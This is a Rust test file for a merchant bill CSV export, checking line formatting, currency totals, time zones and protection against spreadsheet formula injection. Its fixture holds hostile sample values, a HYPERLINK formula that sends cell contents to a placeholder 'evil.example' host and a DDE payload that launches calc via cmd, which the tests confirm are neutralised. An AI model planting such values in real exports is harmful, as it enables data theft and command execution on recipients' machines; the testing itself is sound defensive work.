//! Bills as a merchant sees them.

use jiff::tz::{TimeZone, offset};
use proptest::prelude::*;
use types::TerminalId;

use super::*;

/// 2026-11-22 09:00 in Guangzhou.
const MORNING: i64 = 1_795_309_200;

fn line(minute: i64, kind: LineKind, out_trade_no: &str, minor: i64) -> Line {
    Line {
        at: second(MORNING + 60 * minute),
        kind,
        terminal: TerminalId::from_bits(0x7e),
        order: OrderId::from_bits(2),
        out_trade_no: out_trade_no.to_owned(),
        payment: PaymentId::from_bits(1),
        refund: None,
        out_refund_no: None,
        amount: yuan(minor),
        fee: yuan(0),
        description: "早餐：豆浆、油条".to_owned(),
        settlement: None,
    }
}

fn refund(minute: i64, numbers: (&str, &str), minor: i64) -> Line {
    Line {
        refund: Some(RefundId::from_bits(7)),
        out_refund_no: Some(numbers.1.to_owned()),
        ..line(minute, LineKind::Refund, numbers.0, minor)
    }
}

pub(super) fn bill(lines: Vec<Line>) -> Bill {
    let time_zone = TimeZone::fixed(offset(8));
    Bill { merchant: MerchantId::from_bits(3), date: jiff::civil::date(2026, 11, 22), time_zone, lines }
}

/// A day with each kind, a second currency, and a customer who likes formulas.
pub(super) fn day() -> Bill {
    let yen = |minor| Amount::new(minor, "JPY".parse().unwrap());
    let settlement = Some(SettlementId::from_bits(9));
    bill(vec![
        Line { fee: yuan(-4), ..refund(30, ("2026112200001", "-R1"), 1_000) },
        Line { fee: yuan(41), settlement, ..line(0, LineKind::Payment, "2026112200001", 10_664) },
        Line {
            description: "=HYPERLINK(\"http://evil.example/?\"&A1,\"退款\")".to_owned(),
            payment: PaymentId::from_bits(0xb),
            ..line(5, LineKind::Payment, "@SUM(1+1)*cmd|' /C calc'!A0", 5)
        },
        Line { amount: yen(500), fee: yen(2), ..line(6, LineKind::Payment, "00420000000000000042", 0) },
        line(8, LineKind::Reversal, "两份\"套餐\",加蛋", 1_800),
        line(8, LineKind::Payment, "两份\"套餐\",加蛋", 1_800),
        Line { fee: yuan(-37), ..line(90, LineKind::Recovery, "2026112200001", 9_664) },
    ])
}

#[test]
fn a_day_as_the_merchant_opens_it() {
    expect![[r#"
        transaction_time,merchant_id,terminal_id,payment_id,order_id,out_trade_no,transaction_type,currency,amount,refund_id,out_refund_no,description,fee,settlement_id
        2026-11-22T09:00:00+08:00,mer_00000000000000000000000000000003,term_0000000000000000000000000000007e,pay_00000000000000000000000000000001,ord_00000000000000000000000000000002,2026112200001,payment,CNY,106.64,,,早餐：豆浆、油条,0.41,stl_00000000000000000000000000000009
        2026-11-22T09:05:00+08:00,mer_00000000000000000000000000000003,term_0000000000000000000000000000007e,pay_0000000000000000000000000000000b,ord_00000000000000000000000000000002,'@SUM(1+1)*cmd|' /C calc'!A0,payment,CNY,0.05,,,"'=HYPERLINK(""http://evil.example/?""&A1,""退款"")",0.00,
        2026-11-22T09:06:00+08:00,mer_00000000000000000000000000000003,term_0000000000000000000000000000007e,pay_00000000000000000000000000000001,ord_00000000000000000000000000000002,'00420000000000000042,payment,JPY,500,,,早餐：豆浆、油条,2,
        2026-11-22T09:08:00+08:00,mer_00000000000000000000000000000003,term_0000000000000000000000000000007e,pay_00000000000000000000000000000001,ord_00000000000000000000000000000002,"两份""套餐"",加蛋",payment,CNY,18.00,,,早餐：豆浆、油条,0.00,
        2026-11-22T09:08:00+08:00,mer_00000000000000000000000000000003,term_0000000000000000000000000000007e,pay_00000000000000000000000000000001,ord_00000000000000000000000000000002,"两份""套餐"",加蛋",reversal,CNY,18.00,,,早餐：豆浆、油条,0.00,
        2026-11-22T09:30:00+08:00,mer_00000000000000000000000000000003,term_0000000000000000000000000000007e,pay_00000000000000000000000000000001,ord_00000000000000000000000000000002,2026112200001,refund,CNY,10.00,rfd_00000000000000000000000000000007,'-R1,早餐：豆浆、油条,-0.04,
        2026-11-22T10:30:00+08:00,mer_00000000000000000000000000000003,term_0000000000000000000000000000007e,pay_00000000000000000000000000000001,ord_00000000000000000000000000000002,2026112200001,recovery,CNY,96.64,,,早餐：豆浆、油条,-0.37,
        totals_currency,bill_date,time_zone,payments_count,payments_amount,refunds_count,refunds_amount,reversals_count,reversals_amount,recoveries_count,recoveries_amount,fees,net
        CNY,2026-11-22,,3,124.69,1,10.00,1,18.00,1,96.64,0.00,0.05
        JPY,2026-11-22,,1,500,0,0,0,0,0,0,2,498
    "#]].assert_eq(&day().csv());
}

#[test]
fn a_day_without_business() {
    let empty = bill(Vec::new());
    assert_eq!(empty.totals(), []);
    assert_eq!(empty.csv().lines().count(), 2);
}

#[test]
fn local_time_follows_the_zone_and_names_it() {
    let mut bill = bill(vec![line(0, LineKind::Payment, "1", 1)]);
    for (zone, wanted, name) in [
        ("Asia/Shanghai", "2026-11-22T09:00:00+08:00", "Asia/Shanghai"),
        ("America/St_Johns", "2026-11-21T21:30:00-03:30", "America/St_Johns"),
        ("UTC", "2026-11-22T01:00:00+00:00", "UTC"),
    ] {
        let Ok(time_zone) = TimeZone::get(zone) else { continue };
        bill.time_zone = time_zone;
        let text = bill.csv();
        assert!(text.lines().nth(1).is_some_and(|row| row.starts_with(wanted)), "{text}");
        assert!(text.lines().last().is_some_and(|row| row.contains(name)), "{text}");
    }
}

#[test]
fn totals_are_the_sums() {
    let totals = day().totals();
    let [yuans, yens] = &totals[..] else { panic!("{totals:?}") };
    assert_eq!((yuans.payments.count, yuans.payments.amount), (3, yuan(10_664 + 5 + 1_800)));
    assert_eq!((yuans.reversals.count, yuans.reversals.amount), (1, yuan(1_800)));
    assert_eq!((yuans.refunds.count, yuans.refunds.amount), (1, yuan(1_000)));
    assert_eq!((yuans.recoveries.count, yuans.recoveries.amount), (1, yuan(9_664)));
    assert_eq!((yuans.fees, yuans.net), (yuan(0), yuan(5)));
    assert_eq!((yens.net.minor, yens.fees.minor), (498, 2));
}

#[test]
fn the_order_of_the_lines_does_not_matter() {
    let forward = day();
    let mut backward = day();
    backward.lines.reverse();
    assert_eq!(forward.csv(), backward.csv());
}

/// What spreadsheets take for a formula.
fn is_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'])
}

proptest! {
    /// Foreign text comes back as it was and never begins like a formula.
    #[test]
    fn foreign_text_is_shown_not_calculated(text in "[-=+@'`\t\r\n\"0-9a-z,＝＠ ]{0,20}") {
        let mut bill = bill(vec![refund(0, (&text, &text), 1)]);
        bill.lines[0].description = text.clone();
        let written = bill.csv();
        let mut reader = csv::ReaderBuilder::new().flexible(true).from_reader(written.as_bytes());
        let row = reader.records().next().unwrap().unwrap();
        for (column, cell) in row.iter().enumerate() {
            prop_assert!(!is_formula(cell), "{column}: {cell:?}");
            if [5, 10, 11].contains(&column) {
                prop_assert_eq!(crate::cell::unguarded(cell), &text);
            }
        }
    }

    #[test]
    fn decimals_round_trip(minor in 0..=i64::MAX, code in prop_oneof!["CNY", "JPY", "BHD"]) {
        let currency: Currency = code.parse().unwrap();
        let text = crate::decimal::decimal(i128::from(minor), currency);
        prop_assert_eq!(crate::decimal::parse_decimal(&text, currency), Ok(minor));
        prop_assert_eq!(format!("{text} {currency}"), Amount::new(minor, currency).to_string());
    }
}
